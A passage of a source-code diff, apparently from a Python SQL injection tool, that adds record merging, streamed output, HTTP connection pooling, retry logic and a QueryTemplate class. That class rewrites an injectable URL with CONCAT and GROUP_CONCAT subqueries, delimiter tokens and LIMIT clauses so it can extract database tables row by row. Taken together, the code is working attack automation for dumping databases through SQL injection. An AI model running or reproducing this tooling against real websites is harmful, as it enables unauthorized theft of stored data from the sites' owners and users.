+            self.db.commit()
+            self.db.close()
+            self.db = None
+
+    @staticmethod
+    def read( filename ):
+        db     = sqlite3.connect(filename)
+        name   = db.execute( "SELECT name FROM sqlite_master WHERE type='table' ORDER BY rowid LIMIT 1" ).fetchone()[0]
+        table  = '"{0}"'.format( name.replace( '"', '""' ) )
+        cursor = db.execute( "SELECT * FROM {0} ORDER BY \"index\"".format(table) )
+        fields = [ column[0] for column in cursor.description[1:] ]
+        def rows():
+            try:
+                for row in cursor:
+                    yield row[0], list( row[1:] )
+            finally:
+                db.close()
+        return name, fields, rows()
+
+class RecordMerger:
+    def __init__( self, writer, start = None, end = None ):
+        """Initialize the merger, it puts partial outputs back together in index order.
+
+            writer (RecordWriter) : Where to write the merged records, not opened yet.
+            start (int)           : First index expected, default the smallest one found.
+            end (int)             : Index after the last one expected, default the one after the biggest found.
+        """
+        self.writer     = writer
+        self.start      = start
+        self.end        = end
+        self.missing    = []
+        self.duplicates = []
+        self.conflicts  = 0
+
+    def __str__(self):
+        return "Record Merger( Written={0}, Missing={1}, Duplicates={2} )".format( self.writer.written, sum( e - s for s, e in self.missing ), len(self.duplicates) )
+
+    def merge( self, method, filenames ):
+        """Merge the partial outputs written with the given method, fill missing and duplicates and return the number of records written.
+
+        The indexes between the partial outputs are missing too, so is the whole start-end range if there is none.
+        """
+        if not filenames:
+            if self.start != None and self.end != None and self.start < self.end:
+                self.missing.append( ( self.start, self.end ) )
+            return 0
+        parts = [ self.__sorted( method, filename ) for filename in filenames ]
+        name, fields = parts[0][0], parts[0][1]
+        for part in parts[1:]:
+            if part[1] != fields:
+                raise Exception( "Partial outputs have different fields: {0} and {1}.".format( ', '.join(fields), ', '.join(part[1]) ) )
+
+        self.writer.open( name, fields )
+        expected = self.start
+        last     = None
+        for index, row in heapq.merge( *[ part[2] for part in parts ], key = lambda item: item[0] ):
+            if last != None and index == last[0]:
+                self.duplicates.append(index)
+                if row != last[1]:
+                    self.conflicts += 1
+                continue
+            if expected != None and index > expected:
+                self.missing.append( ( expected, index ) )
+            self.writer.write( index, row )
+            last     = ( index, row )
+            expected = index + 1
+
+        if self.end != None and ( expected if expected != None else self.start ) < self.end:
+            self.missing.append( ( expected if expected != None else self.start, self.end ) )
+        self.writer.close()
+        return self.writer.written
+
+    def report(self):
+        """Print what has been merged and whatever is wrong with it."""
+        print( "@ {0} records merged into '{1}' .".format( self.writer.written, self.writer.filename ) )
+        if self.missing:
+            print( "! WARNING: {0} records are missing :".format( sum( e - s for s, e in self.missing ) ) )
+            print( "\t" + ', '.join( str(s) if e == s + 1 else "{0}-{1}".format( s, e - 1 ) for s, e in self.missing ) )
+        if self.duplicates:
+            print( "! WARNING: {0} records are duplicated, {1} of them with different values, the first one was kept :".format( len(self.duplicates), self.conflicts ) )
+            print( "\t" + ', '.join( str(index) for index in self.duplicates[:20] ) + ( ", ..." if len(self.duplicates) > 20 else "" ) )
+        return not self.missing and not self.duplicates
+
+    def __sorted( self, method, filename ):
+        # outputs written with --unordered have to be sorted first, the others are streamed
+        name, fields, rows = RecordWriter.reader( method, filename )
+        last = None
+        for index, row in rows:
+            if last != None and index < last:
+                name, fields, rows = RecordWriter.reader( method, filename )
+                return name, fields, iter( sorted( rows, key = lambda item: item[0] ) )
+            last = index
+        return RecordWriter.reader( method, filename )
+
+class StreamList:
+    def __init__( self, size, offset, writer, ordered = True, buffer = 10000, session = None, kind = None, name = None ):
+        """Initialize the streaming container, it writes items to a RecordWriter as they arrive instead of keeping them.
+
+            size (int)            : Number of items.
+            offset (int)          : Index of the first item in the whole result set.
+            writer (RecordWriter) : Where to write the items, already opened.
+            ordered (bool)        : Write items in index order with a reorder buffer, or as soon as they arrive.
+            buffer (int)          : Maximum number of items held by the reorder buffer, when full the items
+                                    waiting for a missing one are written out of order.
+            session (Session)     : Session to resume the items from and to save them to, or None.
+            kind (str)            : Kind of the items in the session.
+            name (str)            : Name of the items in the session.
+        """
+        self.size    = size
+        self.offset  = offset
+        self.writer  = writer
+        self.ordered = ordered
+        self.buffer  = buffer
+        self.session = session
+        self.kind    = kind
+        self.name    = name
+        self.lock    = threading.Lock()
+        self.pending = {}
+        self.next    = offset
+        self.failed  = {}
+        # { absolute index : reason } of the items still missing after the requeue
+        self.holes   = {}
+        # anything outside of these ranges is already in the session
+        self.missing = session.missingRanges( kind, name, offset, offset + size ) if session != None else [ ( offset, offset + size ) ] if size > 0 else []
+        self.current = 0
+        self.filled  = size - sum( end - start for start, end in self.missing )
+
+        if not self.ordered and session != None:
+            for index, value in session.iterate( kind, name, offset, offset + size ):
+                self.writer.write( index, value )
+
+    def __len__(self):
+        return self.size
+
+    def __setitem__( self, index, value ):
+        if value != None and self.session != None:
+            self.session.store( self.kind, self.name, index + self.offset, value )
+        with self.lock:
+            if value != None:
+                self.filled += 1
+            index += self.offset
+            if not self.ordered or index < self.next:
+                if value != None:
+                    self.writer.write( index, value )
+            else:
+                self.pending[index] = value
+                self.__flush()
+
+    def ranges(self):
+        """Return the ( start, end ) ranges of absolute indexes of the items not fetched yet."""
+        return list(self.missing)
+
+    def fail( self, index, reason ):
+        """Record an item that could not be fetched and why, the reorder buffer keeps waiting for it."""
+        with self.lock:
+            self.failed[ index + self.offset ] = reason
+
+    def failures(self):
+        """Return and forget the { absolute index : reason } of the failed items."""
+        with self.lock:
+            failed, self.failed = self.failed, {}
+        return failed
+
+    def close(self):
+        """Write whatever is left in the reorder buffer, skipping items that never arrived."""
+        if self.ordered:
+            with self.lock:
+                self.__flush( self.offset + self.size )
+
+    def __flush( self, until = None ):
+        self.__advance(until)
+        if len(self.pending) > self.buffer:
+            # too many items waiting for a missing one, give up waiting and write half of them out of order
+            self.__advance( sorted(self.pending)[ len(self.pending) - self.buffer // 2 ] )
+
+    def __advance( self, until ):
+        # write items in order, the ones missing before 'until' are not waited for anymore
+        while self.next < self.offset + self.size:
+            # skip the missing ranges already behind us
+            while self.current < len(self.missing) and self.missing[self.current][1] <= self.next:
+                self.current += 1
+
+            if self.current < len(self.missing) and self.missing[self.current][0] <= self.next:
+                if self.next in self.pending:
+                    value = self.pending.pop(self.next)
+                    if value != None:
+                        self.writer.write( self.next, value )
+                elif until == None or self.next >= until:
+                    break
+                self.next += 1
+            else:
+                # items before the next missing range come from the session
+                end = self.missing[self.current][0] if self.current < len(self.missing) else self.offset + self.size
+                for index, value in self.session.iterate( self.kind, self.name, self.next, end ):
+                    self.writer.write( index, value )
+                self.next = end
+
+class TokenScanner:
+    def __init__( self, tokens ):
+        """Initialize the token scanner, it looks for the token boundaries while the response body is being read.
+
+            tokens (dict) : token -> how many times it delimits its value ( 2 for a single value, n + 1 for n values ).
+        """
+        self.expected = dict( ( token.encode('iso-8859-1'), count ) for token, count in tokens.items() )
+        self.reset()
+
+    def __str__(self):
+        return "Token Scanner( Tokens={0}, Read={1}, Done={2} )".format( len(self.expected), self.read, self.done )
+
+    def reset(self):
+        """Forget everything scanned so far, to scan the body of a new response."""
+        self.found    = dict( ( token, [] ) for token in self.expected )
+        self.scanned  = dict( ( token, 0 ) for token in self.expected )
+        self.buffer   = bytearray()
+        self.base     = 0
+        self.read     = 0
+        self.done     = not self.expected
+
+    def feed( self, chunk ):
+        """Scan a new chunk of the body, return True once every token has been found as many times as expected."""
+        self.buffer += chunk
+        self.read   += len(chunk)
+        done         = True
+        for token, count in self.expected.items():
+            found = self.found[token]
+            while len(found) < count:
+                position = self.buffer.find( token, self.scanned[token] - self.base )
+                if position == -1:
+                    # the token could be split across this chunk and the next one
+                    self.scanned[token] = max( self.scanned[token], self.base + len(self.buffer) - len(token) + 1 )
+                    done = False
+                    break
+                found.append( self.base + position )
+                self.scanned[token] = self.base + position + len(token)
+
+        # forget the bytes before any token we still care about
+        keep = min( found[0] if found else self.scanned[token] for token, found in self.found.items() ) if self.found else self.base
+        if keep > self.base:
+            del self.buffer[:keep - self.base]
+            self.base = keep
+
+        self.done = done
+        return done
+
+    def segment( self, token ):
+        """Return the text between the first and the last expected boundary of token, or None if it was not found."""
+        key   = token.encode('iso-8859-1')
+        found = self.found.get(key)
+        if found == None or len(found) < self.expected[key]:
+            return None
+        return self.buffer[ found[0] + len(key) - self.base : found[-1] - self.base ].decode('iso-8859-1')
+
+class QueryTemplate:
+    def __init__( self, url, markers, comment, literal, what, table = None, where = None, packed = False, keyset = None ):
+        """Initialize the query template of a fetch phase, it is compiled once and only the tokens and indexes change between requests.
+
+            url (str) : the injectable url, with its markers.
+            markers (list) : the markers, the first one is used by the single value queries.
+            comment (str) : the comment the url is terminated with, the FROM, WHERE and LIMIT clauses go before it.
+            literal (function) : encodes the tokens and the other strings of the query as SQL literals.
+            what (str|list) : the column or the columns to fetch.
+            table (str) : the table to fetch them from, if any.
+            where (str) : the WHERE condition, if any.
+            packed (bool) : True if several rows are packed in a single value.
+            keyset (str) : the integer key column to walk, the indexes are then ( key, skip ) pairs, rows come after
+                           key in key order and the first skip of them are skipped, or None to use LIMIT offsets.
+        """
+        self.url      = url
+        self.markers  = markers
+        self.comment  = comment
+        self.literal  = literal
+        self.fields   = what if type(what) == list else [what]
+        self.what     = what
+        self.table    = table
+        self.where    = where
+        self.packed   = packed
+        self.keyset   = keyset
+        self.width    = None
+        self.compiled = {}
+
+    def __str__(self):
+        return "Query Template( Fields={0}, Table={1}, Packed={2}, Keyset={3}, Compiled={4} )".format( len(self.fields), self.table, self.packed, self.keyset, len(self.compiled) )
+
+    def fill( self, tokens, index = None, count = None ):
+        """Return the url fetching index ( or a list of indexes, one for each slot ) delimited by tokens."""
+        literals = [ self.literal(token) for token in tokens ]
+        if type(index) != list:
+            return self.__compile( 0, index != None ).format( *literals, index, count )
+        return self.__compile( len(index), True ).format( *literals, *index, *( count if count != None else () ) )
+
+    def slots( self, limit, tokens, index, count = None ):
+        """Return how many slots, up to one for each marker, give urls no longer than limit ( 0 if not even one does )."""
+        for slots in range( len(self.markers), 0, -1 ):
+            indexes = [index] * slots
+            counts  = [count] * slots if count != None else None
+            if limit == None or len( self.fill( tokens * slots, indexes, counts ) ) <= limit:
+                return slots
+        return 0
+
+    def __compile( self, slots, indexed ):
+        # a str.format template, the url and the clauses are escaped once and every request just formats it
+        key = ( slots, indexed )
+        if key not in self.compiled:
+            url = self.__escape(self.url)
+            if slots == 0:
+                url = url.replace( self.__escape(self.markers[0]), self.__value( 0, 1 ) )
+                for marker in self.markers[1:]:
+                    url = url.replace( self.__escape(marker), "NULL" )
+                if not self.packed:
+                    url = url.replace( self.__escape(self.comment), self.__clauses( 0, 1, indexed ) + self.__escape(self.comment) )
+            else:
+                # one slot for each marker, every slot is a subquery fetching its own row(s) and unused ones are NULL
+                for n, marker in enumerate(self.markers):
+                    url = url.replace( self.__escape(marker), self.__slot( n, slots ) if n < slots else "NULL" )
+            self.compiled[key] = url
+        return self.compiled[key]
+
+    def __arg( self, kind, n, slots ):
+        # the arguments are the tokens of every slot ( value, row and field separators if packed ), then the indexes and the counts
+        width = 3 if self.packed else 1
+        if kind == "index":
+            return "{{{0}}}".format( slots * width + n )
+        elif kind in ( "cursor", "skip" ):
+            return "{{{0}[{1}]}}".format( slots * width + n, 0 if kind == "cursor" else 1 )
+        elif kind == "count":
+            return "{{{0}}}".format( slots * width + slots + n )
+        return "{{{0}}}".format( n * width + ( "value", "rows", "fields" ).index(kind) )
+
+    def __value( self, n, slots ):
+        token = self.__arg( "value", n, slots )
+        if self.packed:
+            return "CONCAT({0},{1},{0})".format( token, self.__pack( n, slots ) )
+        # a NULL field would make the whole row NULL, rows keep it as the 'NULL' string like the packed ones do
+        fields = [ "IFNULL({0},{1})".format( self.__escape(field), self.__escape( self.literal('NULL') ) ) if type(self.what) == list else self.__escape(field) for field in self.fields ]
+        return "CONCAT({0},{1},{0})".format( token, ( "," + token + "," ).join(fields) )
+
+    def __clauses( self, n, slots, indexed ):
+        clauses = ""
+        if self.table != None:
+            clauses += "%20FROM%20{0}".format( self.__escape(self.table) )
+        return clauses + self.__filter( n, slots, indexed, "1" )
+
+    def __filter( self, n, slots, indexed, count ):
+        # the WHERE, ORDER BY and LIMIT clauses, a keyset walk starts after a key instead of an offset
+        where = self.__escape(self.where) if self.where != None else None
+        if self.keyset != None:
+            after = "{0}>{1}".format( self.__escape(self.keyset), self.__arg( "cursor", n, slots ) )
+            where = after if where == None else "{0}%20AND%20{1}".format( where, after )
+        clauses = "%20WHERE%20{0}".format(where) if where != None else ""
+        if self.keyset != None:
+            clauses += "%20ORDER%20BY%20{0}".format( self.__escape(self.keyset) )
+        if indexed:
+            clauses += "%20LIMIT%20{0},{1}".format( self.__arg( "skip" if self.keyset != None else "index", n, slots ), count )
+        return clauses
+
+    def __slot( self, n, slots ):
+        if self.packed:
+            return self.__value( n, slots )
+        return "(SELECT%20{0}{1})".format( self.__value( n, slots ), self.__clauses( n, slots, True ) )
+
+    def __pack( self, n, slots ):
+        # every row is terminated by its own token and fields are joined by another one,
+        # fields can be expressions, so the subquery gives them plain aliases
+        inner  = "SELECT%20{0}%20FROM%20{1}".format( ','.join( "{0}%20AS%20pynject{1}".format( self.__escape(field), i ) for i, field in enumerate(self.fields) ), self.__escape(self.table) )
+        inner += self.__filter( n, slots, True, self.__arg( "count", n, slots ) )
+        # NULL fields would drop the whole row from the GROUP_CONCAT, whose order is only certain if asked for
+        fields = [ "IFNULL(pynject{0},{1})".format( i, self.__escape( self.literal('NULL') ) ) for i in range(0,len(self.fields)) ]
+        order  = "%20ORDER%20BY%20pynject{0}".format( self.fields.index(self.keyset) ) if self.keyset != None else ""
+        return "(SELECT%20GROUP_CONCAT(CONCAT({0},{1}){2})%20FROM%20({3})%20AS%20pynject)".format( ( "," + self.__arg( "fields", n, slots ) + "," ).join(fields), self.__arg( "rows", n, slots ), order, inner )
+
+    def __escape( self, string ):
+        return string.replace( "{", "{{" ).replace( "}", "}}" )
+
+class ContentDecoder:
+    def __init__( self, encoding, scanner = None ):
+        """Initialize the body decoder, it decompresses a response body as it is read and feeds it to a scanner or keeps it.
+
+            encoding (str)         : Content-Encoding of the response, gzip, deflate or None.
+            scanner (TokenScanner) : Scanner to feed the decoded body to, or None to keep the whole body.
+        """
+        self.encoding = encoding.strip().lower() if encoding != None else ''
+        self.scanner  = scanner
+        self.chunks   = []
+        self.wire     = 0
+        self.decoded  = 0
+        if self.encoding in ( 'gzip', 'x-gzip' ):
+            self.zlib = zlib.decompressobj( 16 + zlib.MAX_WBITS )
+        elif self.encoding == 'deflate':
+            # zlib wrapped or raw, it depends on the server, see feed()
+            self.zlib = None
+        elif self.encoding in ( '', 'identity' ):
+            self.zlib = False
+        else:
+            raise Exception( "Unsupported Content-Encoding '{0}'.".format(encoding) )
+
+    def __str__(self):
+        return "Content Decoder( Encoding={0}, Wire={1}, Decoded={2} )".format( self.encoding, self.wire, self.decoded )
+
+    def feed( self, chunk ):
+        """Decode a chunk of the body, return True once the scanner is done."""
+        self.wire += len(chunk)
+        if self.zlib == None:
+            self.zlib = zlib.decompressobj( zlib.MAX_WBITS if len(chunk) > 1 and chunk[0] & 0x0f == 8 and ( chunk[0] << 8 | chunk[1] ) % 31 == 0 else -zlib.MAX_WBITS )
+        data = self.zlib.decompress(chunk) if self.zlib != False else chunk
+        return self.__consume(data)
+
+    def body(self):
+        """Return the whole decoded body, None if it went to a scanner."""
+        if self.zlib:
+            self.__consume( self.zlib.flush() )
+        return b''.join(self.chunks) if self.scanner == None else None
+
+    def account( self, meter ):
+        if meter != None:
+            meter["wire"]    = meter.get( "wire", 0 ) + self.wire
+            meter["decoded"] = meter.get( "decoded", 0 ) + self.decoded
+
+    def __consume( self, data ):
+        self.decoded += len(data)
+        if self.scanner == None:
+            self.chunks.append(data)
+            return False
+        return len(data) > 0 and self.scanner.feed(data)
+
+class ConnectionPool:
+    def __init__( self, size = 30, timeout = None, compression = True ):
+        """Initialize the connection pool object.
+
+            size (int)          : How many idle keep-alive connections to keep for each host.
+            timeout (float)     : Socket timeout for new connections, None for the global default.
+            compression (bool)  : Ask for gzip or deflate compressed bodies.
+        """
+        self.size        = size
+        self.timeout     = timeout
+        self.compression = compression
+        self.idle        = {}
+        self.lock        = threading.Lock()
+        self.opened      = 0
+        self.reused      = 0
+        self.wire        = 0
+        self.decoded     = 0
+        self.agent       = "Python-urllib/{0}.{1}".format( *sys.version_info[:2] )
+        self.proxies     = ConnectionPool.proxies()
+        self.routes      = {}
+
+    def __str__(self):
+        return "Connection Pool( Size={0}, Opened={1}, Reused={2} )".format( self.size, self.opened, self.reused )
+
+    def get( self, url, redirects = 5, scanner = None, meter = None ):
+        """Perform a GET request over a pooled keep-alive connection and return the decoded body.
+
+        If a TokenScanner is given, the body is fed to it while being read and reading stops as soon as
+        the scanner is done, None is returned in that case. If a meter dict is given, the bytes read on
+        the wire and after decoding are added to its 'wire' and 'decoded' keys.
+        """
+        parts = urllib.parse.urlsplit(url)
+        path  = parts.path if parts.path else '/'
+        if parts.query:
+            path += '?' + parts.query
+        key   = ( parts.scheme, parts.netloc )
+        proxy = self.__route(parts)
+
+        conn, reused = self.__acquire( key, parts, proxy )
+        try:
+            conn.request( "GET", ConnectionPool.target( url, path, proxy ), headers = self.__headers( proxy if parts.scheme == 'http' else None ) )
+            response = conn.getresponse()
+            decoder  = ContentDecoder( response.getheader('Content-Encoding'), scanner if response.status < 300 else None )
+            data     = self.__read( response, decoder )
+        except ( http.client.BadStatusLine, ConnectionError ):
+            conn.close()
+            # the server dropped an idle connection, retry once on a fresh one, whatever was scanned of the dropped page is forgotten
+            if reused:
+                if scanner != None:
+                    scanner.reset()
+                return self.get( url, redirects, scanner, meter )
+            raise
+        except:
+            conn.close()
+            raise
+
+        if response.will_close or not response.isclosed():
+            conn.close()
+        else:
+            self.__release( key, conn )
+
+        with self.lock:
+            self.wire    += decoder.wire
+            self.decoded += decoder.decoded
+        decoder.account(meter)
+
+        if response.status in ( 301, 302, 303, 307, 308 ) and redirects > 0 and response.getheader('Location') != None:
+            return self.get( urllib.parse.urljoin( url, response.getheader('Location') ), redirects - 1, scanner, meter )
+        elif response.status >= 400:
+            raise urllib.error.HTTPError( url, response.status, response.reason, response.msg, None )
+
+        return data
+
+    @staticmethod
+    def proxies():
+        """Return the { scheme : proxy url } of the environment ( http_proxy, https_proxy ... ), the ones urlopen() would use."""
+        return dict( ( scheme, urllib.parse.urlsplit( proxy if '://' in proxy else 'http://' + proxy ) ) for scheme, proxy in urllib.request.getproxies().items() if scheme in ( 'http', 'https' ) )
+
+    @staticmethod
+    def target( url, path, proxy ):
+        """Return the request target, a plain http proxy wants the absolute url while a CONNECT tunnel only sees the path."""
+        return url.split('#')[0] if proxy != None and urllib.parse.urlsplit(url).scheme == 'http' else path
+
+    @staticmethod
+    def authorization( proxy ):
+        """Return the Proxy-Authorization headers for the credentials in the proxy url, if any."""
+        if proxy == None or proxy.username == None:
+            return {}
+        credentials = "{0}:{1}".format( urllib.parse.unquote(proxy.username), urllib.parse.unquote( proxy.password or '' ) )
+        return { "Proxy-Authorization" : "Basic " + base64.b64encode( credentials.encode('utf-8') ).decode('ascii') }
+
+    def __route( self, parts ):
+        # the proxy to go through for this host, None if there is none or no_proxy excludes the host
+        key = ( parts.scheme, parts.hostname )
+        if key not in self.routes:
+            proxy = self.proxies.get(parts.scheme)
+            self.routes[key] = proxy if proxy != None and not urllib.request.proxy_bypass( parts.hostname ) else None
+        return self.routes[key]
+
+    def __headers( self, proxy ):
+        # proxy is the one of a plain http request, a tunnel sends the credentials with its CONNECT instead
+        headers = { "User-Agent" : self.agent, "Connection" : "keep-alive" }
+        if self.compression:
+            headers["Accept-Encoding"] = "gzip, deflate"
+        headers.update( ConnectionPool.authorization(proxy) )
+        return headers
+
+    def __read( self, response, decoder ):
+        while True:
+            chunk = response.read1(16384)
+            if not chunk or decoder.feed(chunk):
+                break
+        # drain small leftovers to keep the connection alive, otherwise it will be closed,
+        # the length of a chunked body is unknown so give it the same budget
+        if not response.isclosed() and ( response.length == None or response.length <= 16384 ):
+            decoder.wire += len( response.read(16384) )
+        return decoder.body()
+
+    def close(self):
+        """Close every idle connection."""
+        with self.lock:
+            for conns in self.idle.values():
+                for conn in conns:
+                    conn.close()
+            self.idle = {}
+
+    def __acquire( self, key, parts, proxy ):
+        with self.lock:
+            conns = self.idle.get(key)
+            if conns:
+                self.reused += 1
+                return conns.pop(), True
+            self.opened += 1
+
+        scheme, netloc = key
+        if proxy != None and scheme == 'https':
+            # an https target is reached through a CONNECT tunnel, TLS runs end to end inside it
+            conn = http.client.HTTPSConnection( proxy.hostname, proxy.port, timeout = self.timeout )
+            conn.set_tunnel( parts.hostname, parts.port, headers = ConnectionPool.authorization(proxy) )
+            return conn, False
+        elif proxy != None:
+            return http.client.HTTPConnection( proxy.hostname, proxy.port, timeout = self.timeout ), False
+        elif scheme == 'https':
+            return http.client.HTTPSConnection( netloc, timeout = self.timeout ), False
+        else:
+            return http.client.HTTPConnection( netloc, timeout = self.timeout ), False
+
+    def __release( self, key, conn ):
+        with self.lock:
+            conns = self.idle.setdefault( key, [] )
+            if len(conns) < self.size:
+                conns.append(conn)
+                return
+        conn.close()
+
+class AsyncConnectionPool:
+    def __init__( self, size = 30, timeout = None, compression = True ):
+        """Initialize the asyncio connection pool object, the counterpart of ConnectionPool for the async engine.
+
+            size (int)          : How many idle keep-alive connections to keep for each host.
+            timeout (float)     : Timeout for every network operation, None to wait forever.
+            compression (bool)  : Ask for gzip or deflate compressed bodies.
+        """
+        self.size        = size
+        self.timeout     = timeout
+        self.compression = compression
+        self.idle        = {}
+        self.opened      = 0
+        self.reused      = 0
+        self.wire        = 0
+        self.decoded     = 0
+        self.agent       = "Python-urllib/{0}.{1}".format( *sys.version_info[:2] )
+        self.proxies     = ConnectionPool.proxies()
+        self.routes      = {}
+
+    def __str__(self):
+        return "Async Connection Pool( Size={0}, Opened={1}, Reused={2} )".format( self.size, self.opened, self.reused )
+
+    async def get( self, url, redirects = 5, scanner = None, meter = None ):
+        """Perform a GET request over a pooled keep-alive stream and return the raw body, see ConnectionPool.get()."""
+        parts = urllib.parse.urlsplit(url)
+        path  = parts.path if parts.path else '/'
+        if parts.query:
+            path += '?' + parts.query
+        key   = ( parts.scheme, parts.netloc )
+        proxy = self.__route(parts)
+
+        reader, writer, reused = await self.__acquire( key, parts, proxy )
+        try:
+            # a tunnel sends the proxy credentials with its CONNECT instead
+            extra   = ''.join( "{0}: {1}\r\n".format( name, value ) for name, value in ConnectionPool.authorization( proxy if parts.scheme == 'http' else None ).items() )
+            extra  += "Accept-Encoding: gzip, deflate\r\n" if self.compression else ""
+            request = "GET {0} HTTP/1.1\r\nHost: {1}\r\nUser-Agent: {2}\r\nConnection: keep-alive\r\n{3}\r\n".format( ConnectionPool.target( url, path, proxy ), parts.netloc, self.agent, extra )
+            writer.write( request.encode('iso-8859-1') )
+            await asyncio.wait_for( writer.drain(), self.timeout )
+            status, reason, headers = await asyncio.wait_for( self.__readHead(reader), self.timeout )
+            decoder                 = ContentDecoder( headers.get('Content-Encoding'), scanner if status < 300 else None )
+            keepalive               = await asyncio.wait_for( self.__readBody( reader, status, headers, decoder ), self.timeout )
+            data                    = decoder.body()
+        except ( asyncio.IncompleteReadError, http.client.BadStatusLine, ConnectionError ):
+            writer.close()
+            # the server dropped an idle connection, retry once on a fresh one, whatever was scanned of the dropped page is forgotten
+            if reused:
+                if scanner != None:
+                    scanner.reset()
+                return await self.get( url, redirects, scanner, meter )
+            raise
+        except:
+            writer.close()
+            raise
+
+        if keepalive:
+            self.__release( key, reader, writer )
+        else:
+            writer.close()
+
+        self.wire    += decoder.wire
+        self.decoded += decoder.decoded
+        decoder.account(meter)
+
+        if status in ( 301, 302, 303, 307, 308 ) and redirects > 0 and headers.get('Location') != None:
+            return await self.get( urllib.parse.urljoin( url, headers.get('Location') ), redirects - 1, scanner, meter )
+        elif status >= 400:
+            raise urllib.error.HTTPError( url, status, reason, headers, None )
+
+        return data
+
+    async def close(self):
+        """Close every idle connection."""
+        for conns in self.idle.values():
+            for reader, writer in conns:
+                writer.close()
+        self.idle = {}
+
+    def __route( self, parts ):
+        # the proxy to go through for this host, None if there is none or no_proxy excludes the host
+        key = ( parts.scheme, parts.hostname )
+        if key not in self.routes:
+            proxy = self.proxies.get(parts.scheme)
+            self.routes[key] = proxy if proxy != None and not urllib.request.proxy_bypass( parts.hostname ) else None
+        return self.routes[key]
+
+    async def __acquire( self, key, parts, proxy ):
+        conns = self.idle.get(key)
+        if conns:
+            self.reused += 1
+            reader, writer = conns.pop()
+            return reader, writer, True
+
+        self.opened += 1
+        port = parts.port if parts.port != None else ( 443 if parts.scheme == 'https' else 80 )
+        if proxy == None:
+            reader, writer = await asyncio.wait_for( asyncio.open_connection( parts.hostname, port, ssl = True if parts.scheme == 'https' else None ), self.timeout )
+            return reader, writer, False
+
+        reader, writer = await asyncio.wait_for( asyncio.open_connection( proxy.hostname, proxy.port if proxy.port != None else 80 ), self.timeout )
+        if parts.scheme == 'https':
+            try:
+                await asyncio.wait_for( self.__tunnel( reader, writer, parts.hostname, port, proxy ), self.timeout )
+            except:
+                writer.close()
+                raise
+        return reader, writer, False
+
+    async def __tunnel( self, reader, writer, host, port, proxy ):
+        # an https target is reached through a CONNECT tunnel, TLS runs end to end inside it
+        if not hasattr( writer, "start_tls" ):
+            raise Exception( "Going through a proxy to an https target with the async engine needs Python 3.11 or newer." )
+        extra = ''.join( "{0}: {1}\r\n".format( name, value ) for name, value in ConnectionPool.authorization(proxy).items() )
+        writer.write( "CONNECT {0}:{1} HTTP/1.1\r\nHost: {0}:{1}\r\n{2}\r\n".format( host, port, extra ).encode('iso-8859-1') )
+        await writer.drain()
+        status, reason, headers = await self.__readHead(reader)
+        if status != 200:
+            raise OSError( "Tunnel connection failed: {0} {1}".format( status, reason ) )
+        await writer.start_tls( ssl.create_default_context(), server_hostname = host )
+
+    def __release( self, key, reader, writer ):
+        conns = self.idle.setdefault( key, [] )
+        if len(conns) < self.size:
+            conns.append( ( reader, writer ) )
+        else:
+            writer.close()
+
+    async def __readHead( self, reader ):
+        while True:
+            head = await reader.readuntil( b"\r\n\r\n" )
+            line, sep, rest = head.partition( b"\r\n" )
+            try:
+                version, status, reason = ( line.decode('iso-8859-1').split( None, 2 ) + [''] )[:3]
+                status = int(status)
+            except ValueError:
+                raise http.client.BadStatusLine( line.decode('iso-8859-1') )
+            # skip interim 100 Continue heads, as http.client does
+            if status != 100:
+                return status, reason, http.client.parse_headers( io.BytesIO(rest) )
+
+    async def __readBody( self, reader, status, headers, decoder ):
+        keepalive = ( headers.get( 'Connection', '' ).lower() != 'close' )
+        if 100 <= status < 200 or status in ( 204, 304 ):
+            # never any body, whatever the headers say, reading until the end of the connection would wait for the timeout
+            return keepalive
+        elif headers.get( 'Transfer-Encoding', '' ).lower() == 'chunked':
+            done = None
+            while True:
+                size = int( ( await reader.readline() ).split(b';')[0].strip(), 16 )
+                if size == 0:
+                    # skip trailers
+                    while ( await reader.readline() ) not in ( b"\r\n", b"\n", b"" ):
+                        pass
+                    break
+                if done != None and decoder.wire + size > done + 16384:
+                    # too much left to drain, the stream can not be reused
+                    return False
+                chunk = await reader.readexactly(size)
+                await reader.readexactly(2)
+                if done != None:
+                    decoder.wire += len(chunk)
+                elif decoder.feed(chunk):
+                    # the rest of the body is unknown, drain some of it to keep the stream alive
+                    done = decoder.wire
+        elif headers.get('Content-Length') != None:
+            left = int( headers.get('Content-Length') )
+            while left > 0:
+                chunk = await reader.readexactly( min( left, 16384 ) )
+                left -= len(chunk)
+                if decoder.feed(chunk):
+                    # drain small leftovers to keep the stream alive, otherwise it will be closed
+                    if left <= 16384:
+                        await reader.readexactly(left)
+                        decoder.wire += left
+                        return keepalive
+                    return False
+        else:
+            # body delimited by the end of the connection
+            while True:
+                chunk = await reader.read(16384)
+                if not chunk or decoder.feed(chunk):
+                    break
+            keepalive = False
+
+        return keepalive
+
+class RetryPolicy:
+    def __init__( self, attempts = 5, base = 0.5, cap = 30.0, notfound = 1 ):
+        """Initialize the retry policy, it tells whether and when a failed request should be tried again.
+
+            attempts (int) : Maximum number of attempts of a request failing with a transient error.
+            base (float)   : Backoff of the first retry in seconds, doubled at every attempt.
+            cap (float)    : Maximum backoff in seconds.
+            notfound (int) : How many times to retry right away when the tokens are not in the page.
+        """
+        self.attempts = attempts if attempts > 0 else 1
+        self.base     = base
+        self.cap      = cap
+        self.notfound = notfound
+        self.lock     = threading.Lock()
+        self.retries  = 0
+        self.giveups  = 0
+        self.reasons  = {}
+
+    def __str__(self):
+        return "Retry Policy( Attempts={0}, Retries={1}, Given Up={2} )".format( self.attempts, self.retries, self.giveups )
+
+    @staticmethod
+    def transient( e ):
+        """True for errors worth retrying later: timeouts, dropped connections and 429/5xx responses."""
+        if isinstance( e, urllib.error.HTTPError ):
+            return e.code == 429 or e.code >= 500
+        return isinstance( e, ( OSError, asyncio.TimeoutError, http.client.HTTPException ) )
+
+    @staticmethod
+    def reason( e ):
+        """Short description of a failure, e is None when the tokens were not found in the page."""
+        if e == None:
+            return "output not found"
+        elif isinstance( e, urllib.error.HTTPError ):
+            return "HTTP {0}".format(e.code)
+        elif isinstance( e, ( asyncio.TimeoutError, TimeoutError ) ):
+            return "timeout"
+        return e.__class__.__name__
+
+    def delay( self, attempt, e = None ):
+        """Return how many seconds to wait before the next attempt, or None to give up."""
+        if e == None:
+            delay = 0.0 if attempt < self.notfound else None
+        elif not RetryPolicy.transient(e) or attempt + 1 >= self.attempts:
+            delay = None
+        else:
+            # full jitter, so that requests failing together do not come back together
+            delay  = random.uniform( 0, min( self.cap, self.base * 2 ** attempt ) )
+            after  = e.headers.get('Retry-After') if isinstance( e, urllib.error.HTTPError ) and e.headers != None else None
